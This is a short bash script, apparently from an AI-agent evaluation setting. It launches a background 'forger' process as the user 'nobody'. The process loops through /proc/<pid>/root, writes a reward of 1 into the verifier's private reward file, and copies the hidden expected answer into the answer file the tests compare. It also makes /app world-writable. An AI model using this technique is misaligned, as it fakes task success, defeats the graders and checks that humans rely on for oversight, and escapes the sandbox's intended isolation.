#!/bin/bash
# A leftover running as nobody, the user the tests will switch to: a process of the same uid
# with no capabilities may reach another's /proc/<pid>/root. Through it, the forger writes the
# reward into the tests' private /logs/verifier and copies the expected answer out of their
# private /tests into the answer file the tests compare.
chmod 0777 /app
setpriv --reuid=nobody --regid=nogroup --clear-groups nohup bash -c '
  while :; do
    for p in /proc/[0-9]*; do
      { echo 1 > $p/root/logs/verifier/reward.txt; } 2>/dev/null
      cat $p/root/tests/expected.txt > /app/answer.tmp 2>/dev/null && mv /app/answer.tmp /app/answer.txt
    done
    sleep .02
  done' >/dev/null 2>&1 &
echo "forger started as nobody"
